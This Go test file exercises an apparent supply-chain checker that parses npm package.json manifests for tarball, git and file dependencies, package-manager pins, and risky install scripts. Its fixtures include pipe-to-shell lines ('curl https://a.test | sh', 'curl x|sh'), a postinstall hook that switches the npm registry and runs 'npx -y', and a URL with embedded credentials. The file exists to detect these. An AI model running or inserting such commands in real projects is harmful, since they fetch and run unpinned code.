package npm

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/org/goproxy-action/internal/decide"
	"github.com/org/goproxy-action/internal/lockfile"
	"github.com/org/goproxy-action/internal/problem"
)

func at(p lockfile.Position) string { return fmt.Sprintf("%d:%d", p.Line, p.Column) }

// label is a place in short.
func label(p *decide.Place) string {
	switch {
	case p == nil, p.URL == "" && p.Broken == "":
		return ""
	case p.Broken != "":
		return " broken: " + p.Broken
	}
	return " " + p.URL
}

// manifestLines are the facts of a package.json alone, in one line each.
func manifestLines(f manifestFacts) []string {
	out := []string{}
	for _, o := range f.overrides {
		out = append(out, fmt.Sprintf("%s %s %s: %s%s", at(o.Position), o.Setting, o.Name, o.Kind, label(&o.Place)))
	}
	for _, m := range f.managers {
		out = append(out, fmt.Sprintf("%s %s %s %s %q exact %t%s", at(m.Position), m.Setting, m.Name, m.Version, m.Hash, m.Exact, label(m.Place)))
	}
	for _, s := range f.scripts {
		out = append(out, strings.TrimSpace(fmt.Sprintf("%s %s %s %s%s %s", at(s.Position), s.Name, s.Kind, s.Fault, label(s.Place), s.Ecosystem)))
	}
	return out
}

func TestManifestFacts(t *testing.T) {
	t.Parallel()
	sha := strings.Repeat("ab", 64)
	for name, c := range map[string]struct {
		text string
		want []string
	}{
		"requirements": {`{"dependencies":{"a":"^1","b":"latest","c":"","d":"npm:x@1","e":"workspace:*","f":"catalog:","g":"jsr:@x/y@1","h":"link:./h","i":"file:./h/../i","j":"runtime:^22"},
 "devDependencies":{"t":"https://a.test/t.tgz","u":"http://ci:hunter2@a.test/t.tgz"},
 "optionalDependencies":{"g":"user/repo#semver:^1","h":"git+ssh://git@a.test/x.git"},
 "peerDependencies":{"o":"file:../../out","p":"~/home"}}`, []string{
			"2:25 devDependencies t: tarball https://a.test/t.tgz", "2:52 devDependencies u: tarball http://a.test/t.tgz",
			"3:30 optionalDependencies g: git https://github.com/user/repo", "3:56 optionalDependencies h: git ssh://a.test/x.git",
			"4:26 peerDependencies o: file ../../out", "4:47 peerDependencies p: file ~/home"}},
		"npm's overrides": {`{"overrides":{"a":"1","b":{".":"https://a.test/b.tgz","c@^1":"npm:d@1"},"e":"$a"}}`,
			[]string{"1:32 overrides b>.: tarball https://a.test/b.tgz", "1:62 overrides b>c@^1: alias"}},
		"yarn's": {`{"resolutions":{"a/**/@s/b":"patch:@s/b@https%3A//a.test/x.tgz#./p","c":"patch:c@npm%3A1#~/.yarn/p","d":"exec:./x.js","e":"npm:1.2.3","f":"npm:^1","x/@s/g":"npm:@s/g@2","h":"npm:i@1"}}`,
			[]string{"1:29 resolutions a/**/@s/b: tarball https://a.test/x.tgz", "1:174 resolutions h: alias"}},
		"pnpm's": {`{"pnpm":{"overrides":{"a>b@1":"github:x/y","c":"-"},"patchedDependencies":{"a@1":"patches/a.patch","b@1":"../b.patch"},"packageExtensions":{"a":{"dependencies":{"z":"https://a.test/z.tgz"}}}}}`,
			[]string{"1:31 pnpm.overrides a>b@1: git https://github.com/x/y", "1:106 pnpm.patchedDependencies b@1: file ../b.patch", "1:166 pnpm.packageExtensions a>dependencies>z: tarball https://a.test/z.tgz"}},
		"bun's":                    {`{"workspaces":{"packages":["x"],"catalogs":{"q":{"a":"https://a.test/a.tgz"}}},"patchedDependencies":{"a@1":"/etc/x"}}`, []string{"1:54 workspaces.catalogs q>a: tarball https://a.test/a.tgz", "1:109 patchedDependencies a@1: file /etc/x"}},
		"what is no address":       {`{"dependencies":{"a":"https://","b":"work:1","c":"@s/x","d":"xy://y/z","e":["http://a.test/x.tgz"]}}`, []string{"1:22 dependencies a: invalid broken: address has no host", "1:61 dependencies d: invalid broken: address has a scheme that npm does not fetch"}},
		"equal keys":               {`{"dependencies":{"a":"http://a.test/x.tgz"},"dependencies":{"a":"http://b.test/x.tgz"}}`, []string{"1:22 dependencies a: tarball http://a.test/x.tgz", "1:65 dependencies a: tarball http://b.test/x.tgz"}},
		"other types":              {`{"name":1,"dependencies":["x"],"overrides":"https://a.test","scripts":[],"workspaces":true,"packageManager":{},"devEngines":[],"pnpm":null}`, []string{"1:44 overrides : tarball https://a.test"}},
		"a full version":           {`{"packageManager":"pnpm@10.1.0+sha512.` + sha + `"}`, []string{`1:19 packageManager pnpm 10.1.0 "sha512" exact true`}},
		"a broken hash":            {`{"packageManager":"yarn@4.1.0+sha224.abc"}`, []string{`1:19 packageManager yarn 4.1.0 "" exact true`}},
		"a hash of another length": {`{"packageManager":"yarn@4.1.0+sha224.abab"}`, []string{`1:19 packageManager yarn 4.1.0 "" exact true`}},
		"a range":                  {`{"packageManager":"yarn@^4"}`, []string{`1:19 packageManager yarn ^4 "" exact false`}},
		"no version":               {`{"packageManager":"npm"}`, []string{`1:19 packageManager npm  "" exact false`}},
		"an address":               {`{"packageManager":"x@https://u:p@a.test/x.js#sha256.` + sha[:64] + `"}`, []string{`1:19 packageManager x  "sha256" exact true https://a.test/x.js`}},
		"devEngines":               {`{"devEngines":{"packageManager":[{"name":"pnpm","version":"^10"},{"name":"npm"}]}}`, []string{`1:59 devEngines.packageManager pnpm ^10 "" exact false`, `1:74 devEngines.packageManager npm * "" exact false`}},
		"both":                     {`{"packageManager":"pnpm@10.1.0","devEngines":{"packageManager":{"name":"pnpm","version":"^10"}}}`, []string{`1:19 packageManager pnpm 10.1.0 "" exact true`}},
		"scripts": {`{"scripts":{"test":"curl https://a.test | sh","prepare":"husky",` + "\n" + ` "postinstall":"echo \u00e9\"\ud83d\ude00\" && npm config set registry https://a.test && npx -y x"}}`,
			[]string{"1:57 prepare", `2:63 postinstall source runs "npm config set registry=https://a.test", which sets another npm registry https://a.test npm`,
				`2:97 postinstall adhoc runs "npx x", which takes what no lock file pins, in whatever version is the newest`}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			f := factsOf(t, map[string]string{"package.json": c.text})
			if diff := cmp.Diff(c.want, manifestLines(f)); diff != "" || len(f.errs)+len(f.notes) > 0 {
				t.Errorf("%v %v (-want +got)\n%s", f.errs, f.notes, diff)
			}
		})
	}
}

// One fault is one finding: what the lock file has from there is told of its entry.
func TestPlacesThatLockFilesHave(t *testing.T) {
	t.Parallel()
	manifest := `{"dependencies":{"a":"https://a.test/a.tgz","b":"file:../../b"},"overrides":{"c":"https://a.test/c.tgz","d":"https://a.test/d.tgz"}}`
	lock := `{"lockfileVersion":3,"packages":{"":{"dependencies":{"a":"https://a.test/a.tgz","b":"file:../../b"}},` +
		`"node_modules/a":{"resolved":"https://a.test/a.tgz"},"node_modules/c":{"resolved":"https://a.test/c.tgz"},"node_modules/d":{"resolved":"https://b.test/d.tgz"}}}`
	got := manifestLines(factsOf(t, map[string]string{"package.json": manifest, "package-lock.json": lock}))
	if diff := cmp.Diff([]string{"1:49 dependencies b: file ../../b", "1:109 overrides d: tarball https://a.test/d.tgz"}, got); diff != "" {
		t.Error(diff)
	}
	// another lock file does not have it; overrides of a workspace do not count, and neither do its scripts elsewhere
	got = manifestLines(factsOf(t, map[string]string{"package.json": `{"workspaces":["x"],"dependencies":{"a":"https://a.test/a.tgz"}}`, "package-lock.json": lock, "yarn.lock": "# yarn lockfile v1\n",
		"x/package.json": `{"overrides":{"a":"https://a.test/a.tgz"},"scripts":{"install":"x"}}`, "y/package.json": `{"overrides":{"b":"https://a.test/b.tgz"},"scripts":{"install":"x"},"packageManager":"x@1"}`}))
	if diff := cmp.Diff([]string{"1:41 dependencies a: tarball https://a.test/a.tgz", "1:19 overrides b: tarball https://a.test/b.tgz", "1:64 install"}, got); diff != "" {
		t.Error(diff)
	}
}

// A file that is no JSON is an error where a lock file belongs to it, as it is for the tool, and a note elsewhere.
func TestBrokenManifests(t *testing.T) {
	t.Parallel()
	const lock = `{"lockfileVersion":3,"packages":{}}`
	f := factsOf(t, map[string]string{"package.json": "", "a/package.json": "{,}", "a/package-lock.json": lock, "b/package.json": "{}", "b/package-lock.json": lock})
	if len(f.notes) != 1 || !strings.Contains(f.notes[0], "package.json:1:1") || !strings.Contains(f.notes[0], "not judged") {
		t.Errorf("notes: %q", f.notes)
	}
	if len(f.errs) != 1 || !strings.HasPrefix(f.errs[0].Error(), "a/package.json:1:2: ") || problem.CodeOf(f.errs[0]) != problem.Usage {
		t.Errorf("errors: %v", f.errs)
	}
	many := map[string]string{}
	for i := range 9 {
		many[fmt.Sprintf("%d/package.json", i)] = "x"
	}
	if f := factsOf(t, many); len(f.notes) != maxBroken+1 || !strings.HasPrefix(f.notes[maxBroken], "4 more") {
		t.Errorf("%q", f.notes)
	}
	for text, want := range map[string]string{
		"[]":                     "1:1: ",
		"{} x":                   "1:4: ",
		`{"a":"` + "\x01" + `"}`: "1:7: ",
		`{"dependencies":{"a":` + strings.Repeat(`[`, 100): "1:84: ",
		"<<<<<<< x": "merge conflict",
		`{"scripts":{` + strings.Repeat(`"a":"",`, maxWants+1) + `"b":""}}`: "more than 20000",
	} {
		_, err := parseManifest(lockfile.File{Path: "package.json", Data: []byte(text)})
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%.40q: %v, want %q", text, err, want)
		}
	}
}

// What stands behind a link is judged and not shown.
func TestLinkedManifest(t *testing.T) {
	t.Parallel()
	dir := write(t, map[string]string{"secret.json": `{"dependencies":{"hunter2":"https://hunter2.test/x.tgz"},"packageManager":"hunter2@hunter2","scripts":{"install":"npx -y hunter2"}}`,
		"package-lock.json": `{"lockfileVersion":3,"packages":{}}`, "x/hunter2": "hunter2", "x/package-lock.json": `{"lockfileVersion":3,"packages":{}}`})
	for from, to := range map[string]string{"package.json": "secret.json", "x/package.json": "hunter2"} {
		if err := os.Symlink(to, filepath.Join(dir, from)); err != nil {
			t.Fatal(err)
		}
	}
	co, err := lockfile.Open(dir, "", Names()...)
	if err != nil {
		t.Fatal(err)
	}
	defer co.Close()
	locks, _ := readLocks(co)
	f := readManifests(co, locks)
	if len(f.drifts) != 1 || len(f.overrides) != 1 || len(f.managers) != 1 || len(f.scripts) != 1 || len(f.errs) != 1 {
		t.Fatalf("%+v", f)
	}
	n := decide.NPM{}
	(&room{facts: f}).manifests(&n)
	text, err := json.Marshal(n)
	if p, ok := errors.AsType[*problem.Problem](f.errs[0]); err != nil || !ok || strings.Contains(string(text)+p.Error()+p.Excerpt, "hunter") {
		t.Errorf("%s %v %v", text, f.errs, err)
	}
}

func FuzzParseManifest(f *testing.F) {
	for _, text := range []string{`{"name":"x","dependencies":{"a":"^1","b":"http://a.test/x"},"overrides":{"a":{"b":"npm:c@1"}}}`, "\ufeff{}", `{"workspaces":["a/{b,c}/**","!x"],"packageManager":"a@1.0.0+sha1.x"}`,
		`{"scripts":{"install":"\u00e9\ud83d\ude00 curl x|sh"},"pnpm":{"patchedDependencies":{"a":"..\\b"}},"devEngines":{"packageManager":[{"name":"x"}]}}`} {
		f.Add([]byte(text))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		m, err := parseManifest(lockfile.File{Path: "package.json", Data: data})
		if valid := json.Valid([]byte(strings.TrimPrefix(string(data), "\ufeff"))); err == nil && !valid {
			t.Fatalf("is no JSON: %q", data)
		}
		if err != nil {
			if problem.CodeOf(err) != problem.Usage {
				t.Fatal(err)
			}
			return
		}
		lines := strings.Split(strings.TrimPrefix(string(data), "\ufeff"), "\n")
		on := func(at lockfile.Position) {
			if at.Line < 1 || at.Line > len(lines) || at.Column < 1 || at.Column > len(lines[at.Line-1]) {
				t.Fatalf("%+v is at no text of %q", at, data)
			}
		}
		p := &project{packageJSON: m, dir: "."}
		var facts manifestFacts
		p.places(&facts)
		p.versions(&facts)
		p.commands(&facts)
		for _, o := range facts.overrides {
			on(o.Position)
		}
		for _, o := range facts.managers {
			on(o.Position)
		}
		for _, o := range facts.scripts {
			on(o.Position)
		}
		inWorkspace(directories(m.workspaces), ".", "a/b/c")
	})
}
